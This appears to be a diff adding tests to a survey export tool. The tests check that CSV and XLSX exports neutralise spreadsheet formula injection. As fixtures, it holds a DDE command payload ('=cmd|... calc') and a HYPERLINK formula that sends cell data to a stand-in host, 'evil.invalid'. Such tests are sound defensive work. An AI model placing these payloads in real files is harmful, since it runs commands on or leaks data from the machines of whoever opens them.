@@ -8,6 +8,8 @@ import csv
 import io
 import shutil
 import stat
+import subprocess
+import sys
 
 import openpyxl
 import pyreadstat
@@ -104,6 +106,7 @@ def test_respondent_codes_only_when_asked(dataset):
 
 
 def test_plain_csv_holds_the_cells_of_the_results_file(results, dataset):
+    """...except that text a spreadsheet would run as a formula starts with `'`."""
     exported = list(csv.DictReader(io.StringIO(to_csv(export_rows(dataset)))))
     with open(results, encoding="utf-8", newline="") as file:
         original = list(csv.DictReader(file))
@@ -113,8 +116,65 @@ def test_plain_csv_holds_the_cells_of_the_results_file(results, dataset):
         for name, value in got.items():
             if name == "hours" and value not in ("", "na"):
                 assert float(value) == float(want[name])
+            elif _formula_like(want[name]):
+                assert value == "'" + want[name], name
             else:
                 assert value == want[name], name
+    assert [r["comment"] for r in exported[:6]] == ["'" + t for t in TRICKY_TEXTS[:6]]
+
+
+ATTACK = "=cmd|' /C calc'!A0"
+
+
+def _formula_like(cell: str) -> bool:
+    """Text a spreadsheet would run as a formula (a negative number is just a number)."""
+    try:
+        float(cell.replace(",", "."))
+    except ValueError:
+        return cell[:1] in ("=", "+", "-", "@", "\t", "\r")
+    return False
+EVIL_TAG = '=HYPERLINK("http://evil.invalid/?leak="&A2,"click")'
+
+
+def _hostile_copy(results, folder):
+    """The results file with a tag column named like a formula and an answer that is one."""
+    with open(results, encoding="utf-8", newline="") as file:
+        rows = list(csv.reader(file))
+    rows[0][rows[0].index("unit")] = EVIL_TAG
+    rows[1][rows[0].index("comment")] = ATTACK
+    path = folder / results.name
+    path.write_text("".join(encode_line(row) for row in rows), encoding="utf-8")
+    snapshot = results.with_name(results.stem + ".questionnaire.yaml")
+    shutil.copy(snapshot, folder / snapshot.name)
+    return path
+
+
+@pytest.mark.parametrize("options", [[], ["--labels"], ["--excel"], ["--excel", "--labels"]])
+def test_every_csv_export_neutralises_formulas_in_values_and_column_names(
+        tmp_path, results, options):
+    path = _hostile_copy(results, tmp_path)
+    out = tmp_path / "out.csv"
+    done = subprocess.run([sys.executable, "-m", "surveytui", "export", "--format", "csv",
+                           *options, "-o", str(out), str(path)],
+                          capture_output=True, text=True, timeout=120)
+    assert done.returncode == 0, done.stderr
+    text = out.read_text(encoding="utf-8-sig")
+    rows = list(csv.reader(io.StringIO(text, newline=""),
+                           delimiter=";" if "--excel" in options else ","))
+    assert "'" + EVIL_TAG in rows[0] and EVIL_TAG not in rows[0]
+    assert rows[1][rows[0].index("comment")] == "'" + ATTACK
+    assert [cell for row in rows for cell in row if _formula_like(cell)] == []
+
+
+def test_xlsx_keeps_a_formula_like_column_name_text(tmp_path, results):
+    path = _hostile_copy(results, tmp_path)
+    out = tmp_path / "out.xlsx"
+    assert main(["export", "--format", "xlsx", "-o", str(out), str(path)]) == 0
+    data = openpyxl.load_workbook(out)["data"]
+    header = [c for c in data[1] if c.value == EVIL_TAG]
+    assert len(header) == 1 and header[0].data_type == "s" and header[0].quotePrefix
+    comment = column(data, "comment")[0]
+    assert comment.value == ATTACK and comment.data_type == "s" and comment.quotePrefix
 
 
 def test_csv_with_labels(dataset):
